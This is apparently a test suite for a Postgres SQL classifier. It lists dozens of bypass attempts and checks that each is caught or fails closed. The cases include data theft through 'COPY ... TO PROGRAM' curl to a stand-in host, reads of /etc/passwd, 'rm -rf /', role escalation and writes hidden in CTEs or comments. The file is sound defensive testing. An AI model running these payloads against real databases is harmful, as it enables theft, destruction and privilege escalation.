/**
 * Every way found so far to hide a dangerous statement from the SQL classifier. Each case asserts that the
 * dangerous access is reported (and the statement is not read-only), or that the statement fails closed.
 * Cases are kept forever; add new ones, never delete.
 */
import { beforeAll, describe, expect, it } from "vitest";
import type { Classification, StatementClassifier } from "../../src/sql/classification.js";
import { createStatementClassifier, loadSqlParser } from "../../src/sql/postgres/create-classifier.js";

let classifier: StatementClassifier;

beforeAll(async () => {
  await loadSqlParser();
  classifier = createStatementClassifier();
});

const FAILS_CLOSED = "fails closed";

interface BypassCase {
  readonly name: string;
  readonly sql: string;
  /** "action" or "action resource" that some statement must report, or FAILS_CLOSED. */
  readonly reports: string;
  /** A read that must be reported but is genuinely read-only. */
  readonly readOnly?: true;
}

const CASES: readonly BypassCase[] = [
  {
    name: "DELETE in a CTE",
    sql: "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
    reports: "sql:delete public.users",
  },
  {
    name: "UPDATE in a CTE nested in a CTE",
    sql: "WITH a AS (WITH b AS (UPDATE users SET admin = true RETURNING id) SELECT * FROM b) SELECT * FROM a",
    reports: "sql:update public.users",
  },
  {
    name: "INSERT in a CTE of a subquery",
    sql: "SELECT * FROM (WITH i AS (INSERT INTO audit VALUES (1) RETURNING 1) SELECT * FROM i) s",
    reports: "sql:insert public.audit",
  },
  {
    name: "MERGE in a CTE",
    sql: "WITH m AS (MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE RETURNING 1) SELECT 1",
    reports: "sql:delete public.t",
  },
  {
    name: "EXPLAIN ANALYZE DELETE",
    sql: "EXPLAIN ANALYZE DELETE FROM users",
    reports: "sql:delete public.users",
  },
  {
    name: "EXPLAIN (ANALYZE false) is still executed",
    sql: "EXPLAIN (ANALYZE false, COSTS off) DELETE FROM users",
    reports: "sql:delete public.users",
  },
  {
    name: "EXPLAIN ANALYZE of a CTE write",
    sql: "EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING 1) SELECT 1",
    reports: "sql:delete public.t",
  },
  { name: "SELECT INTO", sql: "SELECT * INTO stolen FROM users", reports: "sql:ddl public.stolen" },
  {
    name: "CREATE TABLE AS",
    sql: "CREATE TABLE stolen AS SELECT * FROM users",
    reports: "sql:ddl public.stolen",
  },
  {
    name: "CREATE MATERIALIZED VIEW",
    sql: "CREATE MATERIALIZED VIEW mv AS SELECT * FROM users",
    reports: "sql:ddl public.mv",
  },
  {
    name: "COPY TO PROGRAM",
    sql: "COPY users TO PROGRAM 'curl -d @- evil.example'",
    reports: "sql:copy_program",
  },
  { name: "COPY FROM PROGRAM", sql: "COPY t FROM PROGRAM 'id'", reports: "sql:copy_program" },
  { name: "COPY TO a server file", sql: "COPY users TO '/tmp/users.csv'", reports: "sql:copy_file" },
  { name: "COPY FROM a server file", sql: "COPY t FROM '/etc/passwd'", reports: "sql:copy_file" },
  { name: "COPY FROM STDIN is a write", sql: "COPY users FROM STDIN", reports: "sql:insert public.users" },
  {
    name: "COPY of a DELETE ... RETURNING",
    sql: "COPY (DELETE FROM users RETURNING *) TO STDOUT",
    reports: "sql:delete public.users",
  },
  { name: "DO block", sql: "DO $$ BEGIN DELETE FROM users; END $$", reports: "sql:do" },
  { name: "CALL a procedure", sql: "CALL purge_users()", reports: "sql:call purge_users" },
  { name: "PREPARE a DELETE", sql: "PREPARE p AS DELETE FROM users", reports: "sql:delete public.users" },
  { name: "EXECUTE a prepared statement", sql: "EXECUTE p", reports: "sql:execute" },
  {
    name: "function call in EXECUTE parameters",
    sql: "EXECUTE p(pg_terminate_backend(42))",
    reports: "sql:admin_function pg_catalog.pg_terminate_backend",
  },
  {
    name: "second statement of a multi-statement text",
    sql: "SELECT 1; DROP TABLE users",
    reports: "sql:ddl public.users",
  },
  { name: "SET ROLE", sql: "SET ROLE postgres", reports: "sql:set_role" },
  { name: "SET SESSION AUTHORIZATION", sql: "SET SESSION AUTHORIZATION postgres", reports: "sql:set_role" },
  {
    name: "SET LOCAL role in a transaction",
    sql: "BEGIN; SET LOCAL role = 'postgres'; DELETE FROM users; COMMIT",
    reports: "sql:set_role",
  },
  { name: "RESET ALL", sql: "RESET ALL", reports: "sql:set_role" },
  {
    // Classified as the SET it is (issue 18): still a role change, still administrative.
    name: "set_config('role', ...)",
    sql: "SELECT set_config('role', 'postgres', false)",
    reports: "sql:set_role",
  },
  {
    name: "set_config of search_path to a user schema",
    sql: "SELECT pg_catalog.set_config('search_path', 'evil, pg_catalog', false)",
    reports: "sql:set_protected",
  },
  {
    name: "set_config with a computed setting name",
    sql: "SELECT set_config(lower('ROLE'), 'postgres', false)",
    reports: "sql:admin_function pg_catalog.set_config",
  },
  {
    name: "set_config of a quoted-uppercase pg_catalog lookalike schema",
    sql: `SELECT set_config('search_path', '"PG_CATALOG"', false)`,
    reports: "sql:set_protected",
  },
  {
    name: "set_config hidden in a CTE of a read",
    sql: "WITH x AS (SELECT set_config('session_authorization', 'postgres', false)) SELECT * FROM x",
    reports: "sql:set_role",
  },
  {
    name: "a user schema's set_config",
    sql: "SELECT evil.set_config('search_path', '', false)",
    reports: "sql:admin_function evil.set_config",
  },
  {
    name: "LOCK in a mode that blocks readers",
    sql: "LOCK TABLE public.accounts IN ACCESS EXCLUSIVE MODE",
    reports: "sql:lock",
  },
  {
    name: "SET search_path to shadow functions",
    sql: "SET search_path = evil, pg_catalog",
    reports: "sql:set_protected",
  },
  {
    name: "standard_conforming_strings off changes lexing",
    sql: "SET standard_conforming_strings TO off",
    reports: "sql:set_protected",
  },
  {
    name: "session_replication_role disables triggers",
    sql: "SET session_replication_role = replica",
    reports: "sql:set_protected",
  },
  {
    name: "pg_terminate_backend in a subquery",
    sql: "SELECT * FROM t WHERE id IN (SELECT pg_terminate_backend(pid) FROM pg_stat_activity)",
    reports: "sql:admin_function pg_catalog.pg_terminate_backend",
  },
  {
    name: "lo_import",
    sql: "SELECT lo_import('/etc/passwd')",
    reports: "sql:admin_function pg_catalog.lo_import",
  },
  {
    name: "dblink_exec",
    sql: "SELECT dblink_exec('host=x', 'DROP TABLE users')",
    reports: "sql:admin_function pg_catalog.dblink_exec",
  },
  {
    name: "pg_read_file",
    sql: "SELECT pg_read_file('/etc/passwd')",
    reports: "sql:admin_function pg_catalog.pg_read_file",
  },
  {
    name: "advisory locks",
    sql: "SELECT pg_advisory_xact_lock(1)",
    reports: "sql:admin_function pg_catalog.pg_advisory_xact_lock",
  },
  {
    name: "query_to_xml runs a query string",
    sql: "SELECT query_to_xml('DELETE FROM users RETURNING 1', true, true, '')",
    reports: "sql:admin_function pg_catalog.query_to_xml",
  },
  {
    name: "a user-defined function",
    sql: "SELECT purge_everything()",
    reports: "sql:function purge_everything",
  },
  {
    name: "a shadowing schema-qualified built-in name",
    sql: "SELECT public.lower(name) FROM t",
    reports: "sql:function public.lower",
  },
  {
    name: "nextval changes a sequence",
    sql: "SELECT nextval('users_id_seq')",
    reports: "sql:function pg_catalog.nextval",
  },
  {
    name: "txid_current assigns a transaction id",
    sql: "SELECT txid_current()",
    reports: "sql:admin_function pg_catalog.txid_current",
  },
  {
    name: "pg_notify",
    sql: "SELECT pg_notify('ch', 'x')",
    reports: "sql:admin_function pg_catalog.pg_notify",
  },
  {
    name: "SELECT ... FOR UPDATE",
    sql: "SELECT * FROM accounts FOR UPDATE",
    reports: "sql:lock public.accounts",
  },
  {
    name: "FOR SHARE in a subquery FROM",
    sql: "SELECT * FROM (SELECT * FROM accounts) a FOR SHARE",
    reports: "sql:lock public.accounts",
  },
  {
    name: "a nested comment hides nothing",
    sql: "SELECT 1 /* /* */ DELETE FROM users; */; DELETE FROM users",
    reports: "sql:delete public.users",
  },
  {
    name: "nested comment closing early",
    sql: "/* outer /* inner */ still comment */ DELETE FROM users",
    reports: "sql:delete public.users",
  },
  {
    name: "dollar quoting",
    sql: "SELECT $x$ it's; $y$ $x$; DELETE FROM users",
    reports: "sql:delete public.users",
  },
  {
    name: "E'' string with escaped quote",
    sql: "SELECT E'\\'; DELETE FROM users; --'; DELETE FROM orders",
    reports: "sql:delete public.orders",
  },
  {
    name: "standard string with backslash",
    sql: "SELECT '\\'; DELETE FROM users; --'",
    reports: "sql:delete public.users",
  },
  { name: 'U&"" identifier', sql: 'DELETE FROM U&"\\0075sers"', reports: "sql:delete public.users" },
  {
    name: "quoted identifier keeps its case",
    sql: 'DELETE FROM "Users"',
    reports: "sql:delete public.Users",
  },
  {
    name: "unquoted identifier is folded",
    sql: "DELETE FROM USERS WHERE id = 1",
    reports: "sql:delete public.users",
  },
  {
    name: "schema qualification",
    sql: "DELETE FROM other_schema.users",
    reports: "sql:delete other_schema.users",
  },
  {
    name: "transaction tricks around a READ ONLY wrapper",
    sql: "BEGIN READ ONLY; SET TRANSACTION READ WRITE; COMMIT; DELETE FROM users",
    reports: "sql:delete public.users",
  },
  {
    name: "SET SESSION CHARACTERISTICS",
    sql: "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
    reports: "sql:set_protected",
  },
  {
    name: "CREATE RULE with a DELETE action",
    sql: "CREATE RULE r AS ON SELECT TO t DO ALSO DELETE FROM users",
    reports: "sql:delete public.users",
  },
  {
    name: "CREATE TRIGGER",
    sql: "CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION evil()",
    reports: "sql:ddl public.t",
  },
  { name: "ALTER SYSTEM", sql: "ALTER SYSTEM SET shared_preload_libraries = 'evil'", reports: "sql:admin" },
  { name: "LOAD a library", sql: "LOAD '/tmp/evil.so'", reports: "sql:admin" },
  {
    name: "CREATE FUNCTION in C",
    sql: "CREATE FUNCTION sys(text) RETURNS int AS '/lib/libc.so.6', 'system' LANGUAGE C",
    reports: "sql:admin",
  },
  {
    name: "INSERT ... ON CONFLICT DO UPDATE",
    sql: "INSERT INTO users (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET admin = true",
    reports: "sql:update public.users",
  },
  {
    name: "MERGE",
    sql: "MERGE INTO users u USING staged s ON u.id = s.id WHEN MATCHED THEN UPDATE SET admin = true",
    reports: "sql:update public.users",
  },
  { name: "TRUNCATE", sql: "TRUNCATE users CASCADE", reports: "sql:truncate public.users" },
  {
    name: "WITH RECURSIVE does not hide a write",
    sql: "WITH RECURSIVE r AS (SELECT 1 UNION SELECT 1 FROM r), d AS (DELETE FROM users RETURNING 1) SELECT * FROM r",
    reports: "sql:delete public.users",
  },
  {
    name: "a CTE named like the table it deletes from",
    sql: "WITH users AS (SELECT 1) DELETE FROM users",
    reports: "sql:delete public.users",
  },
  {
    name: "function in ORDER BY",
    sql: "SELECT * FROM t ORDER BY pg_sleep(10)",
    reports: "sql:admin_function pg_catalog.pg_sleep",
  },
  { name: "function in WHERE", sql: "SELECT * FROM t WHERE evil(id) > 0", reports: "sql:function evil" },
  {
    name: "function in VALUES",
    sql: "VALUES (1, pg_cancel_backend(7))",
    reports: "sql:admin_function pg_catalog.pg_cancel_backend",
  },
  {
    name: "function in INSERT VALUES",
    sql: "INSERT INTO t VALUES (lo_unlink(1))",
    reports: "sql:admin_function pg_catalog.lo_unlink",
  },
  {
    name: "ROWS FROM",
    sql: "SELECT * FROM ROWS FROM (generate_series(1, 2), evil())",
    reports: "sql:function evil",
  },
  {
    name: "function in a lateral join",
    sql: "SELECT * FROM t, LATERAL evil(t.id)",
    reports: "sql:function evil",
  },
  {
    name: "function in a FILTER clause",
    sql: "SELECT count(*) FILTER (WHERE evil()) FROM t",
    reports: "sql:function evil",
  },
  {
    name: "function in a window definition",
    sql: "SELECT sum(x) OVER (ORDER BY evil()) FROM t",
    reports: "sql:function evil",
  },
  {
    name: "function in a DEFAULT of ALTER TABLE",
    sql: "ALTER TABLE t ADD COLUMN c int DEFAULT evil()",
    reports: "sql:function evil",
  },
  {
    name: "user-defined operator",
    sql: "SELECT 1 OPERATOR(public.+) 2",
    reports: "sql:function operator(public.+)",
  },
  { name: "unknown operator symbol", sql: "SELECT 1 <=!=> 2", reports: "sql:function operator(<=!=>)" },
  {
    name: "TABLE t is a read of t",
    sql: "TABLE secrets",
    reports: "sql:select public.secrets",
    readOnly: true,
  },
  {
    name: "DECLARE CURSOR ... FOR UPDATE",
    sql: "DECLARE c CURSOR FOR SELECT * FROM accounts FOR UPDATE",
    reports: "sql:lock public.accounts",
  },
  {
    name: "CREATE TABLE ... INHERITS leaks rows into the parent",
    sql: "CREATE TABLE evil () INHERITS (payments)",
    reports: "sql:ddl public.payments",
  },
  {
    name: "CREATE TABLE ... PARTITION OF",
    sql: "CREATE TABLE p1 PARTITION OF payments FOR VALUES IN (1)",
    reports: "sql:ddl public.payments",
  },
  {
    name: "CREATE SCHEMA with nested GRANT",
    sql: "CREATE SCHEMA s GRANT ALL ON TABLES TO public",
    reports: "sql:ddl",
  },
  { name: "DISCARD ALL resets the role", sql: "DISCARD ALL", reports: "sql:set_role" },
  { name: "two-phase commit", sql: "ROLLBACK PREPARED 'someone_else'", reports: "sql:admin" },
  { name: "GRANT", sql: "GRANT ALL ON users TO agent", reports: "sql:grant public.users" },
  { name: "ALTER ROLE", sql: "ALTER ROLE agent SUPERUSER", reports: "sql:grant" },
  { name: "psql meta-command is not SQL", sql: "\\! rm -rf /", reports: FAILS_CLOSED },
  { name: "psql \\copy is not SQL", sql: "\\copy users to '/tmp/x'", reports: FAILS_CLOSED },
  {
    name: "NUL byte splits the text differently upstream",
    sql: "SELECT 1\u0000; DELETE FROM users",
    reports: FAILS_CLOSED,
  },
  { name: "unterminated dollar quote", sql: "SELECT $a$ DELETE FROM users", reports: FAILS_CLOSED },
  { name: "unterminated comment", sql: "SELECT 1 /* DELETE FROM users", reports: FAILS_CLOSED },
];

function reported(result: Classification, expected: string): boolean {
  if (!result.ok) return false;
  const [action, resource] = expected.split(" ");
  return result.statements.some((statement) =>
    statement.accesses.some(
      (access) =>
        access.action === action &&
        (resource === undefined ||
          ("name" in access.resource ? access.resource.name : access.resource.type) === resource),
    ),
  );
}

describe("SQL classifier bypass attempts", () => {
  it("has at least 45 cases with unique names", () => {
    expect(CASES.length).toBeGreaterThanOrEqual(45);
    expect(new Set(CASES.map((c) => c.name)).size).toBe(CASES.length);
  });

  for (const bypass of CASES) {
    it(bypass.name, () => {
      const result = classifier.classify(bypass.sql);
      if (bypass.reports === FAILS_CLOSED) {
        expect(result.ok).toBe(false);
        return;
      }
      expect(result.ok, JSON.stringify(result)).toBe(true);
      expect(reported(result, bypass.reports), JSON.stringify(result)).toBe(true);
      // Whatever else it does, none of the hidden writes may pass as read-only.
      if (result.ok) {
        expect(result.statements.every((statement) => statement.readOnly)).toBe(bypass.readOnly === true);
      }
    });
  }
});
